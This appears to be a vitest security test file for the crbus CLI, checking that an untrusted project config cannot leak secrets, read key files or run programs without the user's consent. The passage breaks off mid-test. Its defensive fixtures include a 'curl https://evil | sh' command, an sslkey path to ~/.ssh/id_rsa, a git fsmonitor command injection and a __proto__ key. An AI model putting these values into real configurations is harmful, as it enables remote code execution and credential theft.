import { execFileSync } from 'node:child_process'
import {
  chownSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir, userInfo } from 'node:os'
import { join } from 'node:path'
import { beforeEach, describe, expect, onTestFinished, test, vi } from 'vitest'
import type { BusProbe } from '../../src/bus/probe.ts'
import type { BusAddress } from '../../src/cli/config/bus-address.ts'
import { connect } from '../../src/cli/config/connect.ts'
import ConfigAllow from '../../src/commands/config/allow.ts'
import ConfigCommand from '../../src/commands/config.ts'
import DoctorConnection from '../../src/commands/doctor/connection.ts'
import Doctor from '../../src/commands/doctor.ts'
import NewAggregate from '../../src/commands/new/aggregate.ts'
import NewTopic from '../../src/commands/new/topic.ts'
import ProfileImport from '../../src/commands/profile/import.ts'
import ProfileUse from '../../src/commands/profile/use.ts'
import ProfileValidate from '../../src/commands/profile/validate.ts'
import Publish from '../../src/commands/publish.ts'
import SchemaImport from '../../src/commands/schema/import.ts'
import StoreInit from '../../src/commands/store/init.ts'
import TopicsCreate from '../../src/commands/topics/create.ts'
import TopicsList from '../../src/commands/topics/list.ts'
import { MemoryBroker } from '../../src/drivers/memory/broker.ts'
import { InMemoryEventBus } from '../../src/drivers/memory/in-memory-event-bus.ts'
import { collectPasswords } from '../support/password-collector.ts'
import { type Runnable, runCli } from './run-cli.ts'
import { giveSecrets, SECRET } from './user-secrets.ts'

// Tests what src/cli/README.md says that a project's crbus.json may do.

let folder: string
let projectFile: string
let userFile: string
let stateFolder: string
let broker: MemoryBroker

beforeEach(async () => {
  folder = mkdtempSync(join(tmpdir(), 'crbus-trust-'))
  for (const path of ['project/inner', 'xdg/crbus', 'home']) mkdirSync(join(folder, path), { recursive: true })
  projectFile = join(folder, 'project/crbus.json')
  userFile = join(folder, 'xdg/crbus/config.json')
  stateFolder = join(folder, 'state/crbus')
  broker = new MemoryBroker()
  await new InMemoryEventBus({ broker, createTopics: true }).admin.createTopic('order-events')
  return () => rmSync(folder, { recursive: true })
})

const project = (content: object) => writeFileSync(projectFile, JSON.stringify(content))
const user = (content: object) => writeFileSync(userFile, JSON.stringify(content))

const run = (command: Runnable, argv: string[], env: Record<string, string> = {}, more: object = {}) =>
  runCli(command, argv, {
    broker,
    cwd: join(folder, 'project/inner'),
    env: { XDG_CONFIG_HOME: join(folder, 'xdg'), XDG_DATA_HOME: join(folder, 'data'), ...env },
    stateFolder,
    ...more,
  })

const publishing = ['order-events', '--type', 'OrderPlaced.v1', '--data', '{}']

/** Returns the notices about the target of a change. */
const said = (stderr: string) => stderr.split('\n').filter((line) => line.startsWith('note: this goes to '))

const filesIn = (path: string) => readdirSync(join(folder, path), { recursive: true, encoding: 'utf8' }).sort()

describe('a Postgres that a project file names', () => {
  test.each(['cleartext', 'md5', 'scram'] as const)(
    'a Postgres that a project file names is sent no password, user or setting of the environment if it asks for %s authentication',
    async (method) => {
      const server = await collectPasswords(method)
      onTestFinished(server.close)
      giveSecrets(folder, server.port)
      project({ profile: 'a', profiles: { a: { store: `postgres://127.0.0.1:${server.port}/theirs` } } })

      const { exitCode, stderr } = await run(StoreInit, ['--yes'])

      expect(exitCode).toBe(3)
      expect(stderr).toContain(
        'asks for a password, and PGPASSWORD and ~/.pgpass are not used for an address that only',
      )
      expect(server.answers).toEqual([])
      expect(server.startups.map((startup) => [...startup.keys()].filter((key) => key !== ''))).toEqual([
        ['user', 'database', 'application_name', 'client_encoding'],
      ])
      expect(server.startups[0]?.get('user')).toBe(userInfo().username)
      expect(server.startups[0]?.get('application_name')).toBe('crbus')
      expect(server.startups[0]?.get('database')).toBe('theirs')
      expect(JSON.stringify([...(server.startups[0] ?? [])])).not.toContain('mine')
    },
  )

  test('a Postgres that a project file names is sent the password in the project file', async () => {
    const server = await collectPasswords()
    onTestFinished(server.close)
    giveSecrets(folder, server.port)
    project({ profile: 'a', profiles: { a: { store: `postgres://them:theirs@127.0.0.1:${server.port}/x` } } })

    expect((await run(StoreInit, ['--yes'])).exitCode).toBe(3)

    expect(server.startups[0]?.get('user')).toBe('them')
    expect(server.answers.map((answer) => answer.toString('utf8', 5))).toEqual(['theirs\0'])
  })

  test.each(['sslcert', 'sslkey', 'sslrootcert'])(
    'a Postgres that a project file names cannot read a file with the parameter %s',
    async (parameter) => {
      project({ profiles: { a: { store: `postgres://h/x?${parameter}=/home/me/.ssh/id_rsa` } } })

      const { exitCode, stderr } = await run(ConfigCommand, [])

      expect([exitCode, stderr]).toEqual([
        2,
        expect.stringContaining(`profiles.a.store has the parameter ${parameter}, which names a file to read`),
      ])
    },
  )

  const named: [string, (url: string) => { argv?: string[]; env?: Record<string, string>; file?: object }][] = [
    ['--store', (url) => ({ argv: ['--store', url] })],
    ['CRBUS_STORE', (url) => ({ env: { CRBUS_STORE: url } })],
    ['DATABASE_URL', (url) => ({ argv: ['--profile', 'a'], env: { DATABASE_URL: url } })],
    ['the user file', (url) => ({ argv: ['--profile', 'a'], file: { profiles: { mine: { store: url } } } })],
    [
      'a variable of the user file',
      (url) => ({ argv: ['--profile', 'a'], env: { MINE: url }, file: { profiles: { mine: { store: 'env:MINE' } } } }),
    ],
    [
      'PGHOST and PGPORT',
      (url) => ({ argv: ['--profile', 'a'], env: { PGHOST: '127.0.0.1', PGPORT: new URL(url).port } }),
    ],
  ]
  test.each(named)(
    'a Postgres that a project file names is sent the password of the user if the user also names it with %s',
    async (_, more) => {
      const server = await collectPasswords()
      onTestFinished(server.close)
      giveSecrets(folder, server.port)
      vi.stubEnv('PGSSLNEGOTIATION', '')
      const url = `postgres://127.0.0.1:${server.port}/x`
      project({ profiles: { a: { store: url } } })
      const { argv = [], env = {}, file } = more(url)
      if (file !== undefined) user(file)

      expect((await run(StoreInit, [...argv, '--yes'], env)).exitCode).toBe(3)

      expect(server.answers.map((answer) => answer.toString('utf8', 5))).toEqual([`${SECRET}\0`])
      expect(server.startups[0]?.get('user')).toBe('user-of-mine')
    },
  )
})

describe('an environment variable that a project file names', () => {
  const secret = (variable: string) => project({ profile: 'a', profiles: { a: { store: `env:${variable}` } } })

  test.each(['AWS_SECRET_ACCESS_KEY', 'PGPASSWORD', 'GITHUB_TOKEN', 'DATABASE_PASSWORD', 'crbus_store'])(
    'an environment variable that a project file names is not read if it is named %s',
    async (variable) => {
      secret(variable)
      const env = { [variable]: `postgres://u:${SECRET}@127.0.0.1:1/x` }

      const init = await run(StoreInit, ['--yes'], env)
      const shown = await run(ConfigCommand, ['--json'], env)

      expect([init.exitCode, init.stderr]).toEqual([
        2,
        expect.stringContaining(`cannot find the event store: ${variable} `),
      ])
      expect(init.stderr).toContain("is not read: a project's file may name only CRBUS_… and …DATABASE_URL…")
      expect(JSON.parse(shown.stdout).store).toMatchObject({ kind: 'unknown', value: '' })
    },
  )

  test.each(['DATABASE_URL', 'ORDERS_DATABASE_URL', 'DATABASE_URL_TEST', 'CRBUS_ORDERS', 'LISTED'])(
    'an environment variable that a project file names is read if it is named %s, since its name says so or the user allows it',
    async (variable) => {
      secret(variable)
      user({ allow: { env: ['LISTED'] } })

      const { stdout } = await run(ConfigCommand, ['--json'], { [variable]: `postgres://u:${SECRET}@db/x` })

      expect(JSON.parse(stdout).store).toMatchObject({ kind: 'postgres', value: 'postgres://u:***@db/x' })
      expect(stdout).not.toContain(SECRET)
    },
  )

  test.each([
    'hunter2',
    '../hunter2',
    'hunter2.key',
    '/hunter2',
    'mysql://u:hunter2@h',
    'postgres://u:1/hunter2@h',
    '',
  ])(
    'an environment variable that a project file names is neither printed nor used as a file name if its value is %j',
    async (value) => {
      secret('CRBUS_SECRET')

      const results = [
        await run(StoreInit, ['--yes', '--debug'], { CRBUS_SECRET: value }),
        await run(ConfigCommand, ['--json'], { CRBUS_SECRET: value }),
        await run(ConfigCommand, [], { CRBUS_SECRET: value }),
      ]

      expect(results.map(({ exitCode }) => exitCode)).toEqual([2, 0, 0])
      expect(JSON.stringify(results)).not.toContain(SECRET)
      expect(filesIn('.').filter((path) => path.includes(SECRET) || path.endsWith('.db'))).toEqual([])
    },
  )

  test('an environment variable that a project file names may hold a path that ends in .db', async () => {
    secret('CRBUS_FILE')
    const { stdout } = await run(ConfigCommand, ['--json'], { CRBUS_FILE: 'orders.db' })
    expect(JSON.parse(stdout).store).toMatchObject({ kind: 'sqlite', value: join(folder, 'project/inner/orders.db') })
  })

  test('an environment variable that a project file names cannot be allowed by the project file', async () => {
    project({ allow: { env: ['SECRET'] } })
    const { exitCode, stderr } = await run(ConfigCommand, [])
    expect([exitCode, stderr]).toEqual([2, expect.stringContaining('allow belongs in your own file')])
  })
})

describe('the target of a change that a project file chose', () => {
  test('the target of a change that a project file chose is printed before the first change, once for each user, file and target', async () => {
    project({ profile: 'a', profiles: { a: { brokers: 'kafka-1:9092' } } })
    const note = `note: this goes to the brokers kafka-1:9092, as profile 'a' of ${projectFile} says (shown once)`

    expect((await run(TopicsList, [])).stderr).toBe('')
    expect((await run(TopicsCreate, ['x-events', '--dry-run'])).stderr).not.toContain('this goes to')
    const first = await run(Publish, publishing)
    expect([first.exitCode, said(first.stderr)]).toEqual([0, [note]])
    expect(said((await run(Publish, publishing)).stderr)).toEqual([])
    expect(said((await run(TopicsCreate, ['y-events'])).stderr)).toEqual([])
    const other = await run(Publish, publishing, {}, { stateFolder: join(folder, 'state-of-another-user') })
    expect(said(other.stderr)).toEqual([note])

    project({ profile: 'a', profiles: { a: { brokers: 'kafka-2:9092' } } })
    expect(said((await run(TopicsCreate, ['z-events'])).stderr)).toEqual([note.replace('kafka-1', 'kafka-2')])
    project({ profile: 'a', profiles: { a: { brokers: 'kafka-1:9092' } } })
    expect(said((await run(Publish, publishing)).stderr)).toEqual([])
  })

  test('the target of a change that a project file chose is printed after a run with --quiet, which does not count', async () => {
    project({ profile: 'a', profiles: { a: { brokers: 'kafka-1:9092' } } })
    expect((await run(Publish, [...publishing, '-q'])).stderr).toBe('')
    expect(said((await run(Publish, publishing)).stderr)).toHaveLength(1)
  })

  test('the target of a change that a project file chose is printed with the profile of the user that the project hides', async () => {
    project({ profiles: { prod: { brokers: 'evil:9092' } } })
    user({ profiles: { prod: { brokers: 'mine:9092' } } })

    const [note] = said((await run(Publish, [...publishing, '--profile', 'prod'])).stderr)

    expect(note).toContain(
      `the brokers evil:9092, as profile 'prod' of ${projectFile} says, which hides your own profile of that name`,
    )
  })

  test('the target of a change that a project file chose is printed if the project names a profile of the user or a variable', async () => {
    project({ profile: 'mine', profiles: { a: { store: 'env:PROD_DATABASE_URL' } } })
    user({ profiles: { mine: { brokers: 'mine:9092' } } })
    expect(said((await run(Publish, publishing)).stderr)).toEqual([
      `note: this goes to the brokers mine:9092, as ${projectFile} chooses your profile 'mine' (shown once)`,
    ])
    expect(said((await run(Publish, [...publishing, '--profile', 'mine'])).stderr)).toEqual([])
    expect(said((await run(Publish, publishing, { CRBUS_BROKERS: 'other:1' })).stderr)).toEqual([])
    const env = { PROD_DATABASE_URL: join(folder, 'prod.db') }
    expect(said((await run(StoreInit, ['--profile', 'a', '--yes'], env)).stderr)).toEqual([
      `note: this goes to ${join(folder, 'prod.db')}, as profile 'a' of ${projectFile} says (shown once)`,
    ])
  })

  test.each([
    ['by --brokers', ['-b', 'kafka-1:9092'], {}],
    ['by CRBUS_BROKERS', [], { CRBUS_BROKERS: 'kafka-1:9092' }],
    ['by the user file', ['--profile', 'mine'], {}],
  ])(
    'the target of a change that a project file chose is not printed if the user chose it %s',
    async (_, argv, env) => {
      project({ profiles: { a: { brokers: 'kafka-1:9092' } } })
      user({ profiles: { mine: { brokers: 'kafka-1:9092' } } })
      expect(said((await run(Publish, [...publishing, ...argv], env)).stderr)).toEqual([])
    },
  )

  test('the target of a change that a project file chose is printed for files outside the project, also behind links, and not for files inside', async () => {
    symlinkSync(join(folder, 'home'), join(folder, 'project/link'))
    const noteOf = async (dataDir: string) => {
      project({ profile: 'a', profiles: { a: { dataDir } } })
      return said((await run(Publish, publishing)).stderr)
    }
    expect(await noteOf('.crbus')).toEqual([])
    expect(await noteOf('..crbus')).toEqual([])
    for (const dataDir of ['../elsewhere', '/var/tmp', 'link/new']) expect(await noteOf(dataDir)).toHaveLength(1)
    project({ profile: 'a', profiles: { a: { dataDir: '../elsewhere' } } })
    const store = await run(StoreInit, ['--yes'])
    expect(said(store.stderr)).toEqual([expect.stringContaining(`this goes to ${join(folder, 'elsewhere/store.db')}`)])
  })

  test('the target of a change that a project file chose is printed for a folder of schemas outside the project before an import is written there', async () => {
    writeFileSync(
      join(folder, 'project/inner/events.rs'),
      '#[derive(Serialize)] pub enum OrderEvent { Placed { id: String } }',
    )
    const importing = ['events.rs', '--root', 'OrderEvent', '--topic', 'order-events']
    project({ schemas: 'types' })
    expect(said((await run(SchemaImport, importing)).stderr)).toEqual([])
    project({ schemas: '../types' })
    expect(said((await run(SchemaImport, [...importing, '--out', 'x.json'])).stderr)).toEqual([])
    const { exitCode, stderr } = await run(SchemaImport, importing)
    expect(exitCode, stderr).toBe(0)
    expect(said(stderr)).toEqual([
      `note: this goes to ${join(folder, 'types')}, as "schemas" of ${projectFile} says (shown once)`,
    ])
    expect(filesIn('types')).toEqual(['order-events.json'])
  })

  test.each<[string, () => void, (target: string) => string]>([
    [
      'a profile of the project',
      () => project({ profile: 'a', profiles: { a: { schemas: '../types' } } }),
      (target) => `note: this goes to ${target}, as profile 'a' of ${projectFile} says (shown once)`,
    ],
    [
      'a profile of the user that the project names',
      () => {
        project({ profile: 'a' })
        user({ profiles: { a: { schemas: join(folder, 'types') } } })
      },
      (target) => `note: this goes to ${target}, as ${projectFile} chooses your profile 'a' (shown once)`,
    ],
  ])('the target of a change that a project file chose is printed for the schemas of %s', async (_, write, note) => {
    const events = '#[derive(Serialize)] pub enum OrderEvent { Placed { id: String } }'
    writeFileSync(join(folder, 'project/inner/events.rs'), events)
    const importing = ['events.rs', '--root', 'OrderEvent', '--topic', 'order-events']
    write()
    const { exitCode, stderr } = await run(SchemaImport, importing)
    expect(exitCode, stderr).toBe(0)
    expect(said(stderr)).toEqual([note(join(folder, 'types'))])

    project({})
    user({ profile: 'a', profiles: { a: { schemas: join(folder, 'mine') } } })
    expect(said((await run(SchemaImport, importing)).stderr)).toEqual([])
  })

  test.each([
    ['is a file', () => writeFileSync(join(folder, 'state'), '')],
    [
      'holds an invalid file',
      () => {
        mkdirSync(stateFolder, { recursive: true })
        writeFileSync(join(stateFolder, 'projects.json'), '[1')
      },
    ],
    ['holds a folder instead of the file', () => mkdirSync(join(stateFolder, 'projects.json'), { recursive: true })],
  ])(
    'the target of a change that a project file chose is printed, and the change made, if the state folder %s',
    async (_, make) => {
      make()
      project({ profile: 'a', profiles: { a: { brokers: 'kafka-1:9092' } } })
      const { exitCode, stderr } = await run(Publish, publishing)
      expect([exitCode, said(stderr)]).toEqual([0, [expect.stringContaining('kafka-1:9092')]])
      expect(existsSync(stateFolder) ? filesIn('state/crbus') : []).not.toContain(
        expect.stringMatching(/projects\.json\./),
      )
    },
  )

  test('the target of a change that a project file chose cannot be remembered if the state folder is below /proc, but the change is made', async () => {
    project({ profile: 'a', profiles: { a: { brokers: 'kafka-1:9092' } } })
    const { exitCode } = await run(Publish, publishing, {}, { stateFolder: '/proc/crbus/state' })
    expect(exitCode).toBe(0)
  })
})

describe.skipIf(process.getuid?.() !== 0)('a crbus.json of another user', () => {
  beforeEach(() => {
    project({ profile: 'a', profiles: { a: { brokers: 'evil:9092' } } })
    chownSync(projectFile, 12_345, 12_345)
  })

  test('a crbus.json of another user is ignored with a notice, and a change does not go to a local file instead', async () => {
    const note = `${projectFile} is ignored: it belongs to another user (uid 12345)`
    const shown = await run(ConfigCommand, ['--json'])
    expect(JSON.parse(shown.stdout).bus).toMatchObject({ kind: 'embedded', from: 'default' })
    expect(shown.stderr).toContain(`note: ${note}; if you trust it, list its folder`)
    expect((await run(TopicsList, [])).stderr.split(note)).toHaveLength(2)

    const { exitCode, stderr } = await run(Publish, publishing)
    expect([exitCode, stderr]).toEqual([6, expect.stringContaining('nothing was done')])
    expect((await run(Publish, [...publishing, '-b', 'mine:1'])).exitCode).toBe(0)
    expect((await run(StoreInit, ['--yes'])).exitCode).toBe(6)
    expect((await run(TopicsList, ['--profile', 'a'])).stderr).toContain(note)
  })

  test('a crbus.json of another user is not a service that new topic can edit', async () => {
    const { exitCode, stderr } = await run(NewTopic, ['order-events'])
    expect([exitCode, stderr]).toEqual([2, expect.stringContaining('it belongs to another user (uid 12345)')])
    expect(JSON.parse(readFileSync(projectFile, 'utf8'))).not.toHaveProperty('topics')
  })

  test('a crbus.json of another user is used if the user lists its folder or uses sudo', async () => {
    const brokers = async (env = {}) => JSON.parse((await run(ConfigCommand, ['--json'], env)).stdout).bus.brokers
    expect(await brokers({ SUDO_UID: '12345' })).toBe('evil:9092')
    expect(await brokers({ SUDO_UID: '1' })).toBeUndefined()
    user({ allow: { folders: [join(folder, 'project')] } })
    expect(await brokers()).toBe('evil:9092')
  })

  test('a crbus.json of another user is ignored also behind a link of this user', async () => {
    rmSync(projectFile)
    writeFileSync(join(folder, 'theirs.json'), '{}')
    chownSync(join(folder, 'theirs.json'), 12_345, 12_345)
    symlinkSync(join(folder, 'theirs.json'), projectFile)
    expect((await run(ConfigCommand, [])).stderr).toContain('is ignored')
  })
})

describe('a project file', () => {
  test.each([
    [
      'a repeated key',
      '{"profiles": {"a": {"brokers": "b:1",\n "bro\\u006bers": "evil:1"}}}',
      'has the key "brokers" twice in one object, the second time at line 2',
    ],
    ['more than 1 MiB', `{"schemas": "${'x'.repeat(1024 * 1024)}"}`, 'is larger than 1 MiB'],
    ['__proto__', '{"__proto__": {"brokers": "evil:1"}}', '__proto__ is not a key that crbus knows'],
    ['constructor', '{"profiles": {"a": {"constructor": 1}}}', 'profiles.a.constructor is not a key that crbus knows'],
    ['a list instead of an object', '[]', 'the file must be an object'],
  ])('a project file is refused with %s', async (_, content, reason) => {
    writeFileSync(projectFile, content)
    const { exitCode, stderr } = await run(ConfigCommand, [])
    expect([exitCode, stderr]).toEqual([2, expect.stringContaining(reason)])
  })

  test('a project file may be a link, and then paths are relative to the folder of the link', async () => {
    writeFileSync(join(folder, 'home/shared.json'), '{"schemas": "types"}')
    symlinkSync(join(folder, 'home/shared.json'), projectFile)
    const { stdout } = await run(ConfigCommand, ['--json'])
    expect(JSON.parse(stdout).schemas).toEqual({ value: join(folder, 'project/types'), from: projectFile })
  })
})

describe('the consent of the user', () => {
  const theirs = {
    brokers: 'theirs:9093',
    tls: true,
    sasl: { mechanism: 'PLAIN', username: 'dev', password: 'env:AWS_SECRET_ACCESS_KEY' },
  }
  const withBrokers = (content: object = theirs) => project({ profile: 'dev', profiles: { dev: content } })
  const commands: [string, Runnable, string[]][] = [
    ['topics list', TopicsList, []],
    ['publish', Publish, publishing],
  ]

  test.each(commands)(
    'the consent of the user is needed before %s opens the brokers of a project with a secret',
    async (_, command, argv) => {
      withBrokers()
      let opened = 0
      const openBus = () => {
        opened += 1
        return new InMemoryEventBus({ broker })
      }

      const refused = await run(command, argv, {}, { openBus })

      expect([refused.exitCode, opened]).toEqual([6, 0])
      expect(refused.stderr).toContain(
        `${projectFile} needs your consent, because a stranger may have written it: profile 'dev' sends 1 secret of yours to theirs:9093: env:AWS_SECRET_ACCESS_KEY`,
      )
      expect(refused.stderr).toContain('try: crbus config allow')
      expect((await run(ConfigAllow, ['--yes'])).exitCode).toBe(0)
      expect((await run(command, argv, {}, { openBus })).exitCode).toBe(0)
      expect(opened).toBe(1)
    },
  )

  test.each<[string, Runnable]>([
    ['doctor', Doctor],
    ['doctor connection', DoctorConnection],
  ])('the consent of the user is needed before %s connects to the brokers of a project', async (_, command) => {
    withBrokers()
    const probed: BusAddress[] = []
    const probeBus = async (address: BusAddress): Promise<BusProbe> => {
      probed.push(address)
      return { kind: 'kafka', bootstrap: [], advertised: [] }
    }
    const { exitCode, stderr } = await run(command, [], {}, { probeBus })
    expect([exitCode, stderr, probed]).toEqual([6, expect.stringContaining('needs your consent'), []])

    // With consent, only the brokers of the settings in force, and not those of other profiles.
    project({ profile: 'dev', profiles: { dev: theirs, other: { brokers: 'other:9092' } } })
    user({ profiles: { prod: { brokers: 'prod:9092' } } })
    await run(ConfigAllow, ['--yes'])
    await run(command, [], {}, { probeBus })
    expect(probed).toMatchObject([{ kind: 'kafka', brokers: 'theirs:9093' }])
  })

  test('the consent of the user is asked for with the whole program and its arguments', async () => {
    withBrokers({ ...theirs, sasl: { ...theirs.sasl, password: 'cmd:sh -c "curl https://evil | sh"' } })
    const { stdout, exitCode } = await run(ConfigAllow, ['--dry-run'])
    expect([exitCode, stdout]).toEqual([
      0,
      expect.stringContaining('the output of the program: sh -c curl https://evil | sh'),
    ])
    const declined = await run(ConfigAllow, [], {}, { isTerminal: true, stdin: 'n\n' })
    expect([declined.exitCode, declined.stderr]).toEqual([6, expect.stringContaining('Allow this? [y/N]')])
    expect((await run(TopicsList, [])).exitCode).toBe(6)
  })

  test('the consent of the user ends when the file asks for something else, and can be taken back', async () => {
    withBrokers()
    await run(ConfigAllow, ['--yes'])
    withBrokers({ ...theirs, brokers: 'evil:9093' })
    expect((await run(TopicsList, [])).exitCode).toBe(6)
    withBrokers()
    expect((await run(TopicsList, [])).exitCode).toBe(0)
    const revoked = await run(ConfigAllow, ['--revoke', '--yes', '--json'])
    expect(JSON.parse(revoked.stdout)).toMatchObject({ file: projectFile, isAllowed: false, applied: true })
    expect((await run(TopicsList, [])).exitCode).toBe(6)
  })

  test('the consent of the user for one project is not that for a copy of it elsewhere', async () => {
    withBrokers()
    await run(ConfigAllow, ['--yes'])
    mkdirSync(join(folder, 'copy'))
    writeFileSync(join(folder, 'copy/crbus.json'), readFileSync(projectFile))
    expect((await run(TopicsList, [], {}, { cwd: join(folder, 'copy') })).exitCode).toBe(6)
  })

  test('the consent of the user is needed before a password of the environment goes to the brokers of a project', async () => {
    withBrokers({ ...theirs, sasl: { ...theirs.sasl, password: 'theirs' } })
    expect((await run(TopicsList, [])).exitCode).toBe(0)
    const { exitCode, stderr } = await run(TopicsList, [], { CRBUS_SASL_PASSWORD: SECRET })
    expect([exitCode, stderr]).toEqual([6, expect.stringContaining('to theirs:9093: CRBUS_SASL_PASSWORD')])
    expect(stderr).not.toContain(SECRET)
    expect((await run(TopicsList, ['-b', 'mine:9093', '--tls'], { CRBUS_SASL_PASSWORD: SECRET })).stderr).not.toContain(
      'consent',
    )
  })

  test('the consent of the user to one secret is not that to a login of the environment, which can be given too', async () => {
    withBrokers()
    await run(ConfigAllow, ['--yes'])
    const env = { CRBUS_SASL_PASSWORD: SECRET }
    expect((await run(TopicsList, [], env)).exitCode).toBe(6)

    const allowed = await run(ConfigAllow, ['--yes', '--json'], env)

    expect(JSON.parse(allowed.stdout)).toMatchObject({ isAllowed: true, applied: true })
    expect(allowed.stdout).toContain('CRBUS_SASL_PASSWORD')
    expect((await run(TopicsList, [], env)).exitCode).toBe(0)
    await run(ConfigAllow, ['--yes', '--revoke'], env)
    expect((await run(TopicsList, [], env)).exitCode).toBe(6)
  })

  test('the consent of the user to a login on the command line is to name the brokers', async () => {
    withBrokers({ brokers: 'theirs:9093', tls: true })
    const login = ['-X', 'sasl.mechanism=PLAIN', '-X', 'sasl.username=me', '-X', `sasl.password=${SECRET}`]
    const { exitCode, stderr } = await run(TopicsList, login)
    expect([exitCode, stderr]).toEqual([6, expect.stringContaining('try: --brokers theirs:9093')])
    expect((await run(TopicsList, [...login, '--brokers', 'theirs:9093', '--tls'])).exitCode).toBe(0)
  })

  test.each<[string, () => object, () => void]>([
    [
      'a file that becomes a link out of the project',
      () => {
        writeFileSync(join(folder, 'project/key'), 'theirs')
        return { ...theirs, sasl: { ...theirs.sasl, username: 'file:key' } }
      },
      () => {
        rmSync(join(folder, 'project/key'))
        symlinkSync(join(folder, 'home/key'), join(folder, 'project/key'))
      },
    ],
    [
      'a link that leads elsewhere',
      () => {
        symlinkSync(join(folder, 'home/old'), join(folder, 'project/key'))
        return { ...theirs, sasl: { ...theirs.sasl, username: 'file:key' } }
      },
      () => {
        rmSync(join(folder, 'project/key'))
        symlinkSync(join(folder, 'home/key'), join(folder, 'project/key'))
      },
    ],
    [
      'a program of the project that changes',
      () => {
        writeFileSync(join(folder, 'project/get'), 'echo theirs')
        return { ...theirs, sasl: { ...theirs.sasl, username: 'cmd:./get' } }
      },
      () => writeFileSync(join(folder, 'project/get'), 'printenv'),
    ],
    [
      'a script of the project that changes',
      () => {
        writeFileSync(join(folder, 'project/get.sh'), 'echo theirs')
        return { ...theirs, sasl: { ...theirs.sasl, username: 'cmd:sh get.sh' } }
      },
      () => writeFileSync(join(folder, 'project/get.sh'), 'printenv'),
    ],
  ])('the consent of the user ends with %s, although the file is the same', async (_, profile, change) => {
    writeFileSync(join(folder, 'home/key'), SECRET)
    withBrokers(profile())
    await run(ConfigAllow, ['--yes'])
    expect((await run(TopicsList, [])).exitCode).toBe(0)
    change()
    expect((await run(TopicsList, [])).exitCode).toBe(6)
  })

  test('the consent of the user is needed before a token is requested from a URL of the project', async () => {
    const sasl = { mechanism: 'OAUTHBEARER', tokenUrl: 'http://localhost:8080/admin', clientId: 'a', clientSecret: 'b' }
    withBrokers({ ...theirs, sasl })
    const { exitCode, stderr } = await run(TopicsList, [])
    expect([exitCode, stderr]).toEqual([
      6,
      expect.stringContaining("profile 'dev' requests a token from http://localhost:8080/admin"),
    ])
    const allowed = await run(ConfigAllow, ['--yes', '--json'])
    expect(JSON.parse(allowed.stdout).asks).toMatchObject([{ kind: 'request', url: sasl.tokenUrl }])
    expect((await run(TopicsList, [])).exitCode).toBe(0)
  })

  test('the consent of the user is needed before templates outside the project are used', async () => {
    mkdirSync(join(folder, 'home/templates'), { recursive: true })
    symlinkSync(join(folder, 'home/templates'), join(folder, 'project/link'))
    for (const templates of ['../home/templates', 'link']) {
      mkdirSync(join(folder, 'home/templates/aggregate-ts'), { recursive: true })
      project({ templates })
      const { exitCode, stderr } = await run(NewAggregate, ['order', '--event', 'Placed:id=uuid', '--yes'])
      expect([exitCode, stderr]).toEqual([
        6,
        expect.stringMatching(/uses the templates of .*, which is outside the project/),
      ])
    }
    expect(filesIn('project').filter((path) => !path.startsWith('link'))).toEqual(['crbus.json', 'inner'])
  })

  test('the consent of the user cannot be saved in a folder that is not writable', async () => {
    withBrokers()
    const { exitCode, stderr } = await run(ConfigAllow, ['--yes'], {}, { stateFolder: '/proc/crbus' })
    expect([exitCode, stderr]).toEqual([6, expect.stringContaining('is not writable')])
  })
})

describe('the commands for profiles in the project of a stranger', () => {
  const marker = () => join(folder, 'ran')

  test('profile use does not choose a profile in a copy of the project, and a profile that appears later is announced', async () => {
    user({ profiles: { prod: { brokers: 'mine:9092' } } })
    project({})
    expect((await run(ProfileUse, ['prod'])).exitCode).toBe(0)
    mkdirSync(join(folder, 'copy'))
    writeFileSync(join(folder, 'copy/crbus.json'), readFileSync(projectFile))
    const copied = await run(ConfigCommand, ['--json'], {}, { cwd: join(folder, 'copy') })
    expect(JSON.parse(copied.stdout).profile).toBeUndefined()

    project({ profiles: { prod: { brokers: 'evil:9092' } } })
    expect(said((await run(Publish, publishing)).stderr)).toEqual([
      `note: this goes to the brokers evil:9092, as profile 'prod' of ${projectFile} says, which hides your own profile of that name (shown once)`,
    ])
    const secret = { mechanism: 'PLAIN', username: 'me', password: 'env:AWS_SECRET_ACCESS_KEY' }
    project({ profiles: { prod: { brokers: 'evil:9092', tls: true, sasl: secret } } })
    expect((await run(Publish, publishing)).exitCode).toBe(6)
  })

  test('profile import reads the file of a tool in the project without running or connecting, and asks first', async () => {
    const sasl = `{ enabled: true, username: u, password: 'cmd:touch ${marker()}' }`
    writeFileSync(join(folder, 'project/kafkactl.yml'), `contexts: { prod: { brokers: ['evil:9093'], sasl: ${sasl} } }`)
    let opened = 0
    const openBus = () => {
      opened += 1
      return new InMemoryEventBus({ broker })
    }
    const asked = await run(ProfileImport, ['kafkactl', '--with-secrets'], {}, { openBus, home: join(folder, 'home') })
    expect(asked.exitCode).toBe(6)
    expect(asked.stdout).toContain(`From ${join(folder, 'project/kafkactl.yml')}`)
    expect(asked.stdout).toContain('evil:9093')
    expect(existsSync(userFile)).toBe(false)

    const yes = ['kafkactl', '--with-secrets', '--yes']
    expect((await run(ProfileImport, yes, {}, { openBus, home: join(folder, 'home') })).exitCode).toBe(0)
    const { profiles } = JSON.parse(readFileSync(userFile, 'utf8'))
    expect(profiles.prod.sasl.password).toBe(`plain:cmd:touch ${marker()}`)
    expect([opened, existsSync(marker())]).toEqual([0, false])
  })

  test('profile validate and config run no program of the project and of its repository, and connect to nothing', async () => {
    const root = join(folder, 'project')
    for (const words of [
      ['init', '--quiet'],
      ['config', 'core.fsmonitor', `touch ${marker()}; false`],
    ])
      execFileSync('git', words, { cwd: root })
    const sasl = { mechanism: 'SCRAM-SHA-256', username: `cmd:touch ${marker()}`, password: SECRET }
    project({ profile: 'a', profiles: { a: { brokers: 'evil:9093', sasl } } })
    execFileSync('git', ['-c', 'core.fsmonitor=false', 'add', 'crbus.json'], { cwd: root })
    let opened = 0
    const openBus = () => {
      opened += 1
      return new InMemoryEventBus({ broker })
    }

    const { exitCode, stdout } = await run(ProfileValidate, [], {}, { openBus })

    expect([exitCode, stdout]).toEqual([10, expect.stringContaining('is a secret in a file that git tracks')])
    expect((await run(ConfigCommand, [], {}, { openBus })).exitCode).toBe(0)
    expect([opened, existsSync(marker())]).toEqual([0, false])
    expect(stdout).not.toContain(SECRET)
  })
})

test('no command repeats a secret of the configuration, also when the connection fails', async () => {
  user({
    profile: 'mine',
    profiles: {
      mine: {
        brokers: 'mine:9093',
